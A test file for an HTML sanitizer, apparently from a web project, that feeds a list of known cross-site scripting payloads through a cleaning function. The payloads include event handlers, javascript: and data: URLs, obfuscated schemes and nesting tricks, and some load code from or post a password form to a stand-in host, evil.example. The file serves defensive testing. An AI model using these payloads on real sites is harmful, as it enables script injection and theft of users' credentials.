import { expect, test } from 'vitest'
import { cleanHtml, cleanLine } from './rich-text.ts'

/** Markup that must never come out of a cleaned text, whatever went in. */
const DANGEROUS =
  /<(?!\/?(?:p|br|b|i|em|strong|u|ul|ol|li|h3|h4|blockquote|code|a)\b)[a-z!/?]|\son\w+\s*=|javascript:|vbscript:|data:|srcdoc|style\s*=|href="(?!https:\/\/|mailto:|tel:|\/(?![/\\]))/i

const NASTY = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:text/html,x">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https://good.example@evil.example">x</a>',
  '<a href="http://example.org">x</a>',
  '<a href="/quote" onclick="alert(1)">x</a>',
  '<a href="/quote" style="position:fixed;inset:0">x</a>',
  '<a href="/quote" target="_top" rel="opener">x</a>',
  '<p style="background:url(javascript:alert(1))" class="x" id="root">x</p>',
  '<p onmouseover=alert(1)>x</p>',
  '<b/onclick=alert(1)>x</b>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><p title="</textarea><script>alert(1)</script>"></textarea>',
  '<title><script>alert(1)</script></title>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p>x<script',
  '<p>x<img src=x onerror=alert(1)',
  '<select><option><script>alert(1)</script></option></select>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<plaintext><script>alert(1)</script>',
  '<body onload=alert(1)>',
  '<x onclick=alert(1)>x</x>',
]

test.each(NASTY.map((html) => ({ html })))('nothing of $html is left that could run or lead astray', ({ html }) => {
  const clean = cleanHtml(`<p>before</p>${html}`)
  expect(clean).toContain('<p>before</p>')
  expect(clean).not.toMatch(DANGEROUS)
  expect(cleanHtml(clean)).toBe(clean)
})

test('words and harmless marks stay as they are', () => {
  const html = '<h3>Title</h3><p>Plain <b>bold</b> <em>text</em> &amp; more<br />next</p><ul><li>one</li></ul>'
  expect(cleanHtml(html)).toBe(html)
})

test('a link that may be followed stays, and an outside one opens a page that cannot reach back', () => {
  expect(cleanHtml('<a href="/quote" title="x">Markets</a>')).toBe('<a href="/quote">Markets</a>')
  expect(cleanHtml('<a href="https://example.org/a" target="_top">out</a>')).toBe(
    '<a href="https://example.org/a" rel="noopener noreferrer nofollow" target="_blank">out</a>',
  )
  expect(cleanHtml('<a href="mailto:help@example.org">mail</a>')).toContain('href="mailto:help@example.org"')
  expect(cleanHtml('<a href="tel:+4930123456">call</a>')).toContain('href="tel:+4930123456"')
})

test('a link that may not be followed leaves its words behind', () => {
  expect(cleanHtml('<p>see <a href="javascript:alert(1)">here <b>now</b></a></p>')).toBe('<p>see here <b>now</b></p>')
})

test('a text nested a thousand deep comes back, and no deeper than a page needs', () => {
  const clean = cleanHtml(`${'<blockquote>'.repeat(1_000)}x${'</blockquote>'.repeat(1_000)}`)
  expect(clean.match(/<blockquote>/g)?.length ?? 0).toBeLessThanOrEqual(20)
})

test('a line has no control characters and nothing that turns the reading around', () => {
  expect(cleanLine(' two\nlines\u0000 \u202egnp.exe\u2066 ')).toBe('two lines gnp.exe')
  expect(cleanLine('أهلًا <b>')).toBe('أهلًا <b>')
})
